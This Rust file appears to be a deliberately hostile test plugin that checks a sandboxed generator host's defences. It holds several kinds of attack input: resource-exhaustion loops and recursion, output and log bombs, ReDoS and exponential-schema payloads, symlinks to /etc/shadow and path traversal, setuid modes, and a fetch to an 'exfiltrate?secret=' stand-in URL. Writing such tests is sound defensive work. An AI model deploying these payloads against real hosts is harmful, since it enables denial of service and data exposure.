//! A generator that misbehaves on demand: `{"resolve": …, "do": …}` names what it does in each call.

use std::hint::black_box;

use serde_json::{Value, json};

wit_bindgen::generate!({
    path: "../../../../../wit/since-v0.1.0",
    world: "plugin",
    generate_all,
});

use bootsplice::generator::archive::{Conflict, EntryAttrs, Sink, TemplateFormat};
use bootsplice::generator::blobs::{Blob, BlobBuilder, Codec, Span};
use bootsplice::generator::types::{Diagnostic, Error, Instance, OsFamily, Severity, Target};
use bootsplice::generator::{cache, fetch, inventory, job, trust};
use exports::bootsplice::generator::generator::{Guest as Generator, LockFile, Locked, Pin, Summary};
use exports::bootsplice::generator::plugin_info::{CapabilityRequest, Descriptor, Example, Guest as Info, StepStage};

/// An index of 30 MiB in pages, each of which tells its number.
const PAGE: usize = 4096;
const PAGES: u32 = 7680;

/// How `describe` lies. A test writes another word of the same length over it in the finished component, so that one build makes many liars.
#[used]
static LIE: [u8; 16] = *b"lie=nothing.....";

struct Hostile;
export!(Hostile);

fn lie() -> String {
    String::from_utf8_lossy(black_box(&LIE)).trim_end_matches('.').to_owned()
}

impl Info for Hostile {
    fn describe() -> Descriptor {
        let schema = match lie().as_str() {
            "lie=trap" => panic!("no description"),
            "lie=loop" => loop {
                black_box(1);
            },
            "lie=recurse" => recurse(1).to_string(),
            "lie=large" => json!({"description": "x".repeat(3 << 20)}).to_string(),
            "lie=huge" => "x".repeat(10 << 20),
            "lie=deep" => "[".repeat(100_000),
            "lie=circle" => json!({"$ref": "#/$defs/a", "$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"$ref": "#/$defs/a"}}}).to_string(),
            "lie=remote" => json!({"$ref": "http://127.0.0.1:9/schema.json"}).to_string(),
            "lie=file" => json!({"$ref": "file:///etc/hostname"}).to_string(),
            "lie=regex" => json!({"properties": {"do": {"pattern": "((a{1,1000}){1,1000}){1,1000}$"}}}).to_string(),
            "lie=backtrack" => json!({"properties": {"do": {"pattern": "^([a-z]+)+$"}}}).to_string(),
            // Its own example doubles the work at each of its levels.
            "lie=levels" => {
                let twice = json!({"properties": {"a": {"$ref": "#"}}, "required": ["b"]});
                json!({"anyOf": [twice, twice, {"properties": {"do": {}}, "required": ["do"]}]}).to_string()
            }
            "lie=double" => {
                let mut defs = json!({});
                for index in 0..60 {
                    let next = json!({"$ref": format!("#/$defs/d{}", index + 1)});
                    defs[format!("d{index}")] = json!({"allOf": [next, next]});
                }
                defs["d60"] = json!({"type": "object"});
                json!({"$ref": "#/$defs/d0", "$defs": defs}).to_string()
            }
            _ => json!({"type": "object", "properties": {"do": {"type": "string"}}}).to_string(),
        };
        Descriptor {
            id: "hostile".into(),
            version: "0.0.1".into(),
            title: "Hostile".into(),
            summary: "Misbehaves on demand".into(),
            os_families: vec![OsFamily::Linux],
            stage: StepStage::Files,
            capabilities: CapabilityRequest {
                fetch: vec!["${config:/urls/*}".into()],
                secrets: vec!["/secrets/*".into()],
            },
            config_schema: schema,
            examples: vec![Example {
                title: "Nothing".into(),
                config: match lie().as_str() {
                    "lie=levels" => (0..60).fold("1".to_owned(), |inner, _| format!("{{\"a\": {inner}}}")),
                    _ => "{\"do\": \"nothing\"}".into(),
                },
            }],
            joins_steps: false,
        }
    }

    fn validate(target: Option<Target>, config: String) -> Vec<Diagnostic> {
        let config: Value = serde_json::from_str(&config).unwrap();
        let say = |code: &str, message: String| Diagnostic {
            severity: Severity::Hint,
            pointer: String::new(),
            code: code.into(),
            message,
            hint: None,
        };
        match config["validate"].as_str() {
            // Reaches for everything that a pure call may not have.
            Some("reach") => vec![
                say("fetch", format!("{:?}", fetch::get(&request(&config, 0)))),
                say("cache", format!("{:?}", cache::get("k").is_some())),
                say("inventory", format!("{:?}", inventory::read_file("os-release").is_some())),
                say("builder", format!("{:?}", BlobBuilder::new().write(b"x"))),
                say("trust", format!("{:?}", trust::seen("suite", 1))),
                say("target", format!("{}", target.is_some())),
            ],
            Some("loop") => loop {
                black_box(1);
            },
            _ => vec![],
        }
    }
}

impl Generator for Hostile {
    fn resolve(target: Target, config: String, previous: Option<Locked>) -> Result<LockFile, Error> {
        let config: Value = serde_json::from_str(&config).unwrap();
        let mut lock = LockFile {
            pins: vec![],
            state: None,
            fresh_for_s: None,
            needs_instance: config["needs_instance"].as_bool().unwrap_or(false),
            max_output: 1 << 20,
        };
        match config["resolve"].as_str().unwrap_or("nothing") {
            "fetch" => {
                for index in 0..config["urls"].as_array().map_or(0, Vec::len) {
                    let got = fetch::get(&request(&config, index))?;
                    lock.pins.push(pin(&config, index, got.content.digest(), got.content.size()));
                }
            }
            // Pins a digest that it knows from elsewhere, without fetching it.
            "steal" => lock.pins.push(pin(&config, 0, config["digest"].as_str().unwrap().into(), 20)),
            "many" => {
                let requests: Vec<_> = (0..10_000).map(|_| request(&config, 0)).collect();
                let answers = fetch::get_all(&requests);
                let last = answers.into_iter().last().unwrap();
                last?;
            }
            "state" => {
                let builder = BlobBuilder::new();
                builder.write(format!("{} {:?}", target.source_date_epoch, random()).as_bytes())?;
                builder.append(&cache_or_inventory())?;
                lock.state = Some(builder.finish()?);
                let again = previous.is_some_and(|previous| previous.state.is_some());
                lock.fresh_for_s = Some(if again { 2 } else { 1 });
            }
            // What a package generator does with a repository's index: fetched, unpacked and prepared once …
            "prepare" => {
                let packed = fetch::get(&request(&config, 0))?.content;
                let plain = packed.decompress(Codec::Gzip, 256 << 20)?;
                let builder = BlobBuilder::new();
                for first in (0..PAGES).step_by(64) {
                    let pages: Vec<u8> = (first..first + 64).flat_map(page).collect();
                    builder.write(&pages)?;
                }
                let index = builder.finish()?;
                cache::put("index", &index, None)?;
                lock.state = Some(report(json!({"plain": plain.size(), "sha256": plain.digest(), "index": index.size()}))?);
            }
            // … and read lazily ever after.
            "look-up" => {
                let index = cache::get("index").ok_or(Error::NotFound("the index".into()))?;
                let (mut read, mut calls) = (0, 0);
                for round in 0..20_u32 {
                    let wanted: Vec<u32> = (0..50).map(|n| (round * 50 + n) * 7 % PAGES).collect();
                    let spans: Vec<Span> = wanted.iter().map(|n| Span { offset: u64::from(*n) * PAGE as u64, len: PAGE as u32 }).collect();
                    for (number, got) in wanted.iter().zip(index.read_many(&spans)?) {
                        if got != page(*number) {
                            return Err(Error::Fault(format!("page {number} is another")));
                        }
                        read += got.len();
                    }
                    calls += 1;
                }
                lock.state = Some(report(json!({"read": read, "calls": calls}))?);
            }
            // Verifies what it fetched, and remembers its date.
            "verify" => {
                let signed = fetch::get(&request(&config, 0))?.content;
                let keyring = trust::Keyring {
                    certificates: config["keys"].as_str().unwrap().into(),
                    allowed: vec![],
                };
                let verified = trust::verify(&signed, None, &[keyring])?;
                let seen = trust::seen("suite", config["date"].as_u64().unwrap())?;
                if config["fail"].as_bool() == Some(true) {
                    return Err(Error::Fault("as asked".into()));
                }
                lock.state = Some(report(json!({
                    "text": String::from_utf8(verified.content.read(0, 1 << 20)?).unwrap(),
                    "signer": verified.signatures[0].fingerprint,
                    "seen": seen,
                }))?);
            }
            // Asks everything that the world outside answers.
            "everything" => {
                let fetched = fetch::get(&request(&config, 0))?.content;
                lock.pins.push(pin(&config, 0, fetched.digest(), fetched.size()));
                let many: Vec<_> = (0..config["urls"].as_array().map_or(0, Vec::len)).map(|index| request(&config, index)).collect();
                let answers: Vec<Value> = fetch::get_all(&many)
                    .into_iter()
                    .map(|answer| match answer {
                        Ok(response) => json!(response.content.digest()),
                        Err(error) => json!(format!("{error:?}")),
                    })
                    .collect();
                let before = cache::get("note").is_some();
                cache::put("note", &fetched, Some(60))?;
                let keyring = trust::Keyring {
                    certificates: b"none".to_vec(),
                    allowed: vec![],
                };
                lock.state = Some(report(json!({
                    "epoch": target.source_date_epoch,
                    "answers": answers,
                    "before": before,
                    "again": cache::get("note").map(|blob| blob.digest()),
                    "names": inventory::list_files(),
                    "release": inventory::read_file("os-release").map(|blob| blob.digest()),
                    "missing": inventory::read_file("nothing").is_some(),
                    "seen": trust::seen("suite", 7)?,
                    "signed": format!("{:?}", trust::verify(&fetched, None, &[keyring]).map(|_| ())),
                    "random": random(),
                }))?);
            }
            "sleep" => std::thread::sleep(std::time::Duration::from_secs(3600)),
            _ => {}
        }
        Ok(lock)
    }

    fn generate(target: Target, config: String, pinned: Locked, who: Option<Instance>, dest: &Sink) -> Result<Summary, Error> {
        let config: Value = serde_json::from_str(&config).unwrap();
        let mut notes = vec![];
        match config["do"].as_str().unwrap_or("nothing") {
            "trap" => panic!("on purpose"),
            "trap-mid-write" => {
                dest.put_bytes("/etc/half", &attrs(), b"whole")?;
                let writer = dest.create("/etc/cut", &attrs())?;
                writer.write(b"half of it")?;
                panic!("in the middle");
            }
            // Bulk operations of all the memory that it may have.
            "bulk" => {
                let mut held = vec![0_u8; 200 << 20];
                for round in 0.. {
                    held.fill(round as u8);
                    black_box(&held);
                }
            }
            // Long texts where short ones are meant: what is too long for one call traps, what is shorter is refused or cut.
            "texts" => {
                let long = "x".repeat(config["length"].as_u64().unwrap() as usize);
                job::log(job::Level::Info, &long, &[(long.clone(), "y".into())]);
                job::progress(&long, 1, None);
                for path in [format!("/{long}"), format!("/etc/{}", "d/".repeat(3000))] {
                    let refused = dest.put_bytes(&path, &attrs(), b"x").is_err();
                    notes.push(format!("path: {}", if refused { "refused" } else { "taken" }));
                }
                notes.push(format!("symlink: {}", if dest.put_symlink("/l", &long).is_err() { "refused" } else { "taken" }));
                let digest = fetch::get(&fetch::Request { digest: Some(long.clone()), ..request(&config, 0) });
                notes.push(format!("digest: {}", if digest.is_err() { "refused" } else { "taken" }));
            }
            "modes" => {
                for mode in [0o4755, 0o2755, 0o1777, u32::MAX] {
                    let refused = dest.put_bytes(&format!("/bin/{mode}"), &EntryAttrs { mode, ..attrs() }, b"x").is_err();
                    notes.push(format!("{mode:o}: {}", if refused { "refused" } else { "taken" }));
                }
            }
            "links" => {
                for (path, to) in [("/a", "../etc/shadow"), ("/b", "/etc/shadow"), ("/c/d", "../../../x"), ("/e", "")] {
                    notes.push(format!("{path}: {}", if dest.put_symlink(path, to).is_err() { "refused" } else { "taken" }));
                }
                dest.put_symlink("/link", "etc")?;
                let through = dest.put_bytes("/link/shadow", &attrs(), b"x").is_err();
                notes.push(format!("through: {}", if through { "refused" } else { "taken" }));
            }
            "loop" => loop {
                black_box(1);
            },
            "recurse" => {
                black_box(recurse(1));
            }
            "memory" => {
                let mut held = vec![];
                loop {
                    held.push(vec![1_u8; 1 << 20]);
                    black_box(&held);
                }
            }
            // Does not care what it is told.
            "output" => {
                for index in 0..100_000 {
                    let _ = dest.put_bytes(&format!("/bomb/{index}"), &attrs(), &[0; 1 << 18]);
                }
            }
            "entries" => {
                for index in 0..200_000 {
                    dest.put_dir(&format!("/bomb/{index}"), &attrs())?;
                }
            }
            "log" => {
                for _ in 0..50_000 {
                    job::log(job::Level::Info, "flood \u{1b}[2J of words", &[]);
                    println!("and more of it");
                }
            }
            "handles" => {
                let mut held: Vec<Blob> = vec![];
                for _ in 0..100_000 {
                    let builder = BlobBuilder::new();
                    builder.write(b"x")?;
                    held.push(builder.finish()?);
                }
            }
            "argument" => dest.put_bytes("/big", &attrs(), &vec![0; 16 << 20])?,
            "probe" => {
                let report = json!({
                    "epoch": target.source_date_epoch,
                    "now": std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs(),
                    "random": random(),
                    "files": std::fs::read_dir("/").is_ok(),
                    "write": std::fs::write("/tmp/x", "x").is_ok(),
                    "environment": std::env::vars().count(),
                    "arguments": std::env::args().count(),
                    "connect": std::net::TcpStream::connect("127.0.0.1:22").is_ok(),
                    "bind": std::net::TcpListener::bind("127.0.0.1:0").is_ok(),
                    "resolve": std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)).is_ok(),
                    "instance": who.as_ref().map(|who| who.id.clone()),
                    "cache": cache::get("k").is_some(),
                    "cache_put": BlobBuilder::new().finish().is_ok_and(|blob| cache::put("k", &blob, None).is_ok()),
                    "inventory": inventory::read_file("os-release").is_some(),
                });
                dest.put_bytes("/probe.json", &attrs(), report.to_string().as_bytes())?;
            }
            "fetch-unpinned" => {
                let got = fetch::get(&request(&config, 0))?;
                dest.put_blob("/got", &attrs(), &got.content)?;
            }
            "fetch-pins" => {
                for (index, pin) in pinned.pins.iter().enumerate() {
                    let mut request = request(&config, 0);
                    request.urls = vec!["https://elsewhere.invalid/exfiltrate?secret=1".into()];
                    request.digest = Some(pin.digest.clone());
                    let got = fetch::get(&request)?;
                    dest.put_blob(&format!("/got/{index}"), &attrs(), &got.content)?;
                }
            }
            "paths" => {
                for path in config["paths"].as_array().unwrap() {
                    let result = dest.put_bytes(path.as_str().unwrap(), &attrs(), b"x");
                    notes.push(format!("{path}: {}", if result.is_ok() { "taken" } else { "refused" }));
                }
            }
            "copy-state" => {
                let state = pinned.state.ok_or(Error::NotFound("the lock's state".into()))?;
                dest.put_blob("/state.json", &attrs(), &state)?;
            }
            "template" => dest.put_template("/etc/motd", &attrs(), config["text"].as_str().unwrap(), TemplateFormat::Plain)?,
            "unfinished" => {
                dest.put_bytes("/first", &attrs(), b"x")?;
                return Err(Error::Fault("gave up half way".into()));
            }
            "patient" => {
                while !job::is_cancelled() {
                    black_box(1);
                }
                return Err(Error::Cancelled);
            }
            "write" => {
                dest.put_bytes("/etc/b", &attrs(), b"second")?;
                let writer = dest.create("/etc/a", &attrs())?;
                for _ in 0..5 {
                    writer.write(&[b'a'; 200_000])?;
                }
                writer.finish()?;
                dest.put_symlink("/etc/c", "b")?;
                notes.push("written".into());
            }
            _ => {}
        }
        Ok(Summary {
            notes,
            reboot_required: false,
        })
    }
}

fn attrs() -> EntryAttrs {
    EntryAttrs {
        mode: 0o644,
        owner: None,
        on_conflict: Conflict::Replace,
    }
}

fn request(config: &Value, index: usize) -> fetch::Request {
    fetch::Request {
        urls: vec![config["urls"][index].as_str().unwrap_or("https://nowhere.invalid/").into()],
        digest: config["digest"].as_str().map(str::to_owned),
        size: None,
        max_size: config["max_size"].as_u64().unwrap_or(1 << 30),
        credential: config["credential"].as_str().map(str::to_owned),
        max_age: config["max_age"].as_u64().map(|seconds| seconds as u32),
    }
}

fn pin(config: &Value, index: usize, digest: String, size: u64) -> Pin {
    Pin {
        name: format!("pin-{index}"),
        version: "1".into(),
        urls: vec![config["urls"][index].as_str().unwrap().into()],
        digest,
        size,
        attributes: vec![],
    }
}

fn cache_or_inventory() -> Blob {
    if let Some(kept) = cache::get("release") {
        return kept;
    }
    let file = inventory::read_file("os-release").expect("the test gives one");
    cache::put("release", &file, Some(3600)).expect("the cache takes a small value");
    file
}

fn page(number: u32) -> Vec<u8> {
    number.to_le_bytes().repeat(PAGE / 4)
}

/// A lock's state that says something to the test.
fn report(said: Value) -> Result<Blob, Error> {
    let builder = BlobBuilder::new();
    builder.write(said.to_string().as_bytes())?;
    builder.finish()
}

fn random() -> u64 {
    use std::hash::{BuildHasher, Hasher};
    std::hash::RandomState::new().build_hasher().finish()
}

#[expect(unconditional_recursion, reason = "that is the attack")]
fn recurse(n: u64) -> u64 {
    black_box(recurse(black_box(n) + 1)) + 1
}
